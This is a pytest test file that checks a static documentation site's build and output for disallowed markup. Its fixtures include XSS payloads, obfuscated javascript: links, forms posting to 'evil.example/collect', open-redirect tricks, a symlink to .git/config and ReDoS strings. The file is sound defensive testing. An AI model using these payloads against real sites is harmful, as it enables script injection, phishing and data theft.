"""docs/ is input too: symlinks, runnable or unknown scripts, forms, <base>, refreshes
and redirects that leave the site are refused at build time, naming the file; and the
built site is scanned for them independently of the build's own check."""

from __future__ import annotations

import os
import posixpath
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from conftest import FIXTURE_DATA, copy_project, run_build
from macros.site import content_security_policy as csp
from macros.site.page_markup_rules import markup_problems, redirect_problem, symlinks_in

# ---- The scan of the built site (BeautifulSoup; shares no code with the build's check) ----

_DATA_TYPES = {"application/json", "application/ld+json"}
_THEME_FORMS = ({"md-search__form"}, {"md-header__option"})  # the search box and the light/dark switch
_LEAVES = re.compile(r"^\s*([a-zA-Z][a-zA-Z0-9+.-]*:|//|\\)")


def built_page_problems(page: str, html: str, site: Path | None = None) -> list[str]:
    soup = BeautifulSoup(html, "lxml")
    found = []
    for script in soup.find_all("script"):
        kind = (script.get("type") or "").strip().lower()
        if kind and kind not in _DATA_TYPES:
            found.append(f"{page}: <script type=\"{kind}\">")
    for tag in soup.find_all("base"):
        found.append(f"{page}: <base href=\"{tag.get('href')}\">")
    for form in soup.find_all("form"):
        if set(form.get("class") or []) not in [set(c) for c in _THEME_FORMS] or form.get("action"):
            found.append(f"{page}: <form action=\"{form.get('action')}\">")
    for meta in soup.find_all("meta", attrs={"http-equiv": True}):
        equiv = meta["http-equiv"].strip().lower()
        if equiv == "refresh":
            url = re.sub(r"^\s*\d+\s*;?\s*(url\s*=\s*)?", "", meta.get("content", ""), flags=re.I).strip("'\" ")
            if _LEAVES.match(url):
                found.append(f"{page}: refresh to {url}")
            elif site is not None:
                target = posixpath.normpath(posixpath.join(posixpath.dirname(page), url.split("#")[0]))
                if target.startswith("..") or not (site / target / "index.html").exists() \
                        and not (site / target).is_file():
                    found.append(f"{page}: refresh to {url}, which is not a page of the site")
        elif equiv != "content-security-policy":
            found.append(f"{page}: <meta http-equiv=\"{equiv}\">")
    return found


def test_the_built_site_has_no_unknown_scripts_forms_base_or_leaving_redirects(built_site):
    found = []
    for html in sorted(built_site.rglob("*.html")):
        page = html.relative_to(built_site).as_posix()
        found += built_page_problems(page, html.read_text(encoding="utf-8"), built_site)
    assert not found, "markup the site does not allow:\n" + "\n".join(found[:40])


def test_redirect_pages_are_scanned(built_site):
    """The site has redirect pages (diagnosis codes), so the refresh check above has something to check."""
    assert any('http-equiv="refresh"' in p.read_text(encoding="utf-8") for p in (built_site / "icd10").rglob("*.html"))


@pytest.mark.parametrize("injected", [
    '<script type="application/x-javascript">alert(1)</script>',
    '<script type="text/javascript">alert(1)</script>',
    '<script type=module src="x.js"></script>',
    '<form action="https://evil.example/collect"><input name="q"></form>',
    '<form class="md-search__form" action="https://evil.example/">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<meta http-equiv="refresh" content="0;URL=\'//evil.example/\'">',
    '<meta http-equiv="set-cookie" content="a=b">',
])
def test_the_scan_catches_each_kind_of_markup(injected):
    page = f"<html><head></head><body><p>Text</p>{injected}</body></html>"
    assert built_page_problems("x/index.html", page)


def test_the_scan_catches_a_refresh_to_a_missing_page(built_site):
    page = '<html><head><meta http-equiv="refresh" content="0; url=../../conditions/no-such-page/"></head></html>'
    assert built_page_problems("icd10/X00/index.html", page, built_site)


# ---- The build's own check: its rules, one case at a time (fast) ----

@pytest.mark.parametrize("html, words", [
    ('<script type="application/x-javascript">alert(1)</script>', "scripts are not allowed"),
    ('<SCRIPT TYPE="text/javascript">alert(1)</SCRIPT>', "scripts are not allowed"),
    ("<script>alert(1)</script>", "scripts are not allowed"),
    ('<script type="application/ld+json" type="module">alert(1)</script>', None),
    ('<script type="module" type="application/ld+json">alert(1)</script>', "scripts are not allowed"),
    ('<!--><script>alert(1)</script>-->', "scripts are not allowed"),
    ('<form action="https://evil.example/"><input></form>', "forms are not allowed"),
    ('<base href="https://evil.example/">', "<base> is not allowed"),
    ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', "<meta> is not allowed"),
    ('<iframe src="https://evil.example/"></iframe>', "frames are not allowed"),
    ('<p onmouseover="alert(1)">x</p>', "inline event handlers"),
    ('<img src=x ONERROR=alert(1)>', "inline event handlers"),
    ('<a href=" jav\tascript:alert(1)">x</a>', "javascript:"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "'data:' addresses are not allowed"),
    ('<a href="&#106;avascript:alert(1)">x</a>', "'javascript:' addresses are not allowed"),
    ('<a href="vbscript:msgbox(1)">x</a>', "'vbscript:' addresses are not allowed"),
    ('<script type="application/ld+json">{"@type": "Article"}</script>', None),
    ('<a href="https://example.org/">x</a><p class="onboarding">x</p>', None),
    ('<!-- <form> -->', None),
])
def test_markup_rules(html, words):
    problems = markup_problems(html)
    if words is None:
        assert problems == []
    else:
        assert any(words in p for p in problems), problems


_URLS = {"", "conditions/", "conditions/neck-pain/", "icd10/M54.2/", "about/"}


@pytest.mark.parametrize("target, page, words", [
    ("../../conditions/neck-pain/", "icd10/M54.2/", None),
    ("../conditions/", "about/", None),
    ("../conditions/neck-pain/#what-helps", "about/", None),
    ("https://evil.example/", "about/", "leaves this site"),
    ("HTTP://evil.example/", "about/", "leaves this site"),
    ("//evil.example/", "about/", "leaves this site"),
    ("/\\evil.example/", "about/", "leaves this site"),
    ("javascript:alert(1)", "about/", "leaves this site"),
    ("../x; url=https://evil.example", "about/", "leaves this site"),
    ("/guide/conditions/", "about/", "leaves this site"),
    ("../../../../etc/", "about/", "above the site's top folder"),
    ("../conditions/no-such-page/", "about/", "is not a page of this site"),
    (["../conditions/"], "about/", "write the address"),
])
def test_redirect_rules(target, page, words):
    problem = redirect_problem(target, page, _URLS)
    if words is None:
        assert problem is None
    else:
        assert problem and words in problem, problem


def test_unknown_script_types_fail_the_sitewide_check(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "index.html").write_text('<script type="application/x-javascript">x()</script>'
                                               '<script type="application/ld+json">{}</script>')
    with pytest.raises(csp.PolicyError, match=r'a/index.html: <script type="application/x-javascript"> is not allowed'):
        csp.check_site(tmp_path, [])
    (tmp_path / "a" / "index.html").write_text('<script type="application/ld+json">{}</script>')
    csp.check_site(tmp_path, [])


def test_symlinks_are_found_without_following_them(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "page.md").write_text("# x\n")
    os.symlink(tmp_path / "real", tmp_path / "linked-folder")
    os.symlink("../../.git/config", tmp_path / "real" / "config.md")
    assert symlinks_in(tmp_path) == ["linked-folder", "real/config.md"]


# ---- Real builds: the hook wires the rules in, names the file, and stops ----

def _build_output(project: Path) -> tuple[int, str]:
    result = run_build(project)
    output = result.stdout + result.stderr
    assert "Traceback" not in output, output[-3000:]
    return result.returncode, output


def test_build_refuses_unsafe_markup_in_a_prose_page(tmp_path):
    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
    (project / "docs" / "evil.md").write_text(
        "# Evil\n\nText.\n\n"
        '<script type="application/x-javascript">alert(1)</script>\n\n'
        '<form action="https://evil.example/collect"><input name="q"></form>\n\n'
        '<base href="https://evil.example/">\n\n'
        '<meta http-equiv="refresh" content="0; url=https://evil.example/">\n')
    code, output = _build_output(project)
    assert code != 0
    for words in ("docs/evil.md: this page's text carries markup", "scripts are not allowed",
                  "forms are not allowed", "<base> is not allowed", "<meta> is not allowed"):
        assert words in output, output[-3000:]


@pytest.mark.parametrize("target", ["https://evil.example/", "../../conditions/no-such-page/"])
def test_build_refuses_a_redirect_that_leaves_the_site(tmp_path, target):
    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
    (project / "docs" / "moved.md").write_text(f"---\nredirect_to: {target}\n---\n\n# Moved\n")
    code, output = _build_output(project)
    assert code != 0
    assert f"docs/moved.md: redirect_to: '{target}'" in output, output[-3000:]


def test_build_refuses_symlinks_in_docs(tmp_path):
    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
    os.symlink("../../.git/config", project / "docs" / "config.md")
    (project / "outside").mkdir()
    (project / "outside" / "x.md").write_text("# x\n")
    os.symlink(project / "outside", project / "docs" / "more")
    code, output = _build_output(project)
    assert code != 0
    assert "docs/config.md: replace the link" in output and "docs/more: replace the link" in output, output[-3000:]


@pytest.mark.parametrize("hostile", ['<a ' * 20000, '<a "' * 20000, '<a b=' * 20000, '<!--' * 20000,
                                     '<!---->' * 20000 + '<a>', '<script>' * 20000, '<a b="x" ' * 20000])
def test_the_checks_stay_linear_on_hostile_markup(hostile):
    """Each of these took over 30 s when the tag patterns could backtrack (quadratic); now milliseconds.
    The bound is a hundred times the time measured on a loaded 2-core machine."""
    import time

    started = time.perf_counter()
    markup_problems(hostile)
    csp.inline_scripts(hostile)
    csp.unknown_script_types(hostile)
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize("name, text, words", [
    ("assets/page.html", "<p>hello</p>", "HTML files are not allowed"),
    ("old/PAGE.HTM", "<p>hello</p>", "HTML files are not allowed"),
    ("assets/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "may not carry scripts"),
    ("assets/logo.svg", '<svg onload="alert(1)"></svg>', "may not carry scripts"),
    ("assets/logo.svg", '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', "may not carry scripts"),
    ("assets/logo.svg", '<svg><svg:script>alert(1)</svg:script></svg>', "may not carry scripts"),
    ("assets/logo.svg", '<svg><foreignObject><p>x</p></foreignObject></svg>', "may not carry scripts"),
    ("assets/logo.svg", '<svg viewBox="0 0 10 10"><path d="M0 0h10v10z"/></svg>', None),
    ("assets/extra.css", "a { color: red }", None),
])
def test_static_files_that_would_be_pages(name, text, words):
    from macros.site.page_markup_rules import static_file_problem

    problem = static_file_problem(name, lambda: text)
    if words is None:
        assert problem is None
    else:
        assert problem and words in problem, problem


def test_build_refuses_an_html_file_in_docs(tmp_path):
    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
    (project / "docs" / "assets" / "login.html").write_text('<form action="https://evil.example/">')
    code, output = _build_output(project)
    assert code != 0
    assert "docs/assets/login.html: HTML files are not allowed in docs/" in output, output[-3000:]
